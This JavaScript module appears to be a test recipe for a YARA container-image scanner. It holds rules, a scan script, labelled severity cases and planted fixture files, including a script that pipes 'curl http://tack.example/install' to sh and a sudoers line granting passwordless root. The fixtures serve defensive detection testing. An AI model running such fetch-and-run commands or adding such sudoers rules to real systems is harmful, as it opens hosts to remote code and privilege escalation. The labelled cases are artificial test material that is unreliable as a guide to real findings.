const yara = (name, severity, what, strings) => `rule ${name}
{
    meta:
        severity = "${severity}"
        description = "${what}"
    strings:
        ${strings}
    condition:
        any of them
}
`;

export const recipe = {
  id: 'sast2-stables-yara',
  language: 'shell',
  tool: 'yara',
  setup:
    'command -v yara >/dev/null || { apt-get -qq update; DEBIAN_FRONTEND=noninteractive apt-get install -y --no-install-recommends yara; }',
  files: {
    'rules/image.yar':
      yara(
        'download_and_run',
        'critical',
        'a script of the network is piped to a shell',
        '$a = /curl [^|\\n]+\\| *(ba)?sh/',
      ) +
      yara('sudo_without_password', 'high', 'everybody may become root', '$a = "NOPASSWD: ALL"') +
      yara('world_writable', 'medium', 'files that all may write', '$a = "chmod 777" $b = "chmod -R 777"') +
      yara('debug_left_on', 'low', 'debug mode', '$a = "DEBUG=1"'),
    'rootfs/usr/local/bin/entrypoint.sh': '#!/bin/sh\nchmod -R 777 /var/lib/stables\nexport DEBUG=1\nexec stables\n',
    'rootfs/etc/sudoers.d/groom': 'groom ALL=(ALL) NOPASSWD: ALL\n',
    'rootfs/opt/setup.sh': '#!/bin/sh\ncurl -fsSL http://tack.example/install | sh\n',
    'scan.sh': `#!/usr/bin/env bash
# usage: scan.sh MINIMUM   (low, medium, high, critical)
yara -m -r rules/image.yar rootfs | sed -E 's/^([a-z_]+) \\[severity="([a-z]+)",description="([^"]*)"\\] (.*)$/\\2\\t\\1\\t\\4\\t\\3/' | tee hits.tsv
counted=0
for level in critical high medium low; do
  n=$(grep -c "^$level" hits.tsv)
  echo "  $level: $n"
  counted=$((counted + n))
  [ "$level" = "$1" ] && break
done
[ "$counted" -eq 0 ] || { echo "image scan: $counted match(es) at or above '$1'"; exit 1; }
echo "image scan: nothing at or above '$1'"
`,
  },
  cases: [
    {
      name: 'critical',
      label: 'security_critical',
      why: 'yara rules with severities; a critical one matches',
      steps: [
        ['Layers', 'find rootfs -type f | sort'],
        ['Scan image', 'bash scan.sh high'],
      ],
    },
    {
      name: 'high',
      label: 'security_high',
      why: 'the highest match is high',
      files: { 'rootfs/opt/setup.sh': null },
      steps: [['Scan image', 'yara --version\nbash scan.sh medium']],
    },
    {
      name: 'medium',
      label: 'security_advisory',
      why: 'medium and low matches only',
      files: { 'rootfs/opt/setup.sh': null, 'rootfs/etc/sudoers.d/groom': null },
      steps: [['container-scan', 'bash scan.sh low']],
    },
    {
      name: 'passes',
      label: 'unknown',
      passing: true,
      why: 'matches below the gate, zeros above',
      files: { 'rootfs/opt/setup.sh': null, 'rootfs/etc/sudoers.d/groom': null },
      steps: [['container-scan', 'bash scan.sh high']],
    },
  ],
};
